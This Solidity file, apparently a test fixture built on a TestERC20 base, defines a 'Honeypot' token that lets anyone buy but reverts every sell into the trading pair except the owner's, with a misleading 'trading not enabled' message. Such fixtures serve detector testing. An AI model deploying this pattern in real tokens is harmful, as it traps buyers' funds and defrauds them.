// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import "./TestERC20.sol";

/// A honeypot: anyone can buy (the pair sends freely), but a transfer INTO the pair - a sell - from
/// anyone but the owner reverts. The owner can still add liquidity and pull it. No setter reveals it.
contract Honeypot is TestERC20 {
    constructor(uint256 supply, address router) TestERC20("Honey", "HNY", supply, router) {}

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != owner) revert("trading not enabled");
        _move(from, to, value);
    }
}
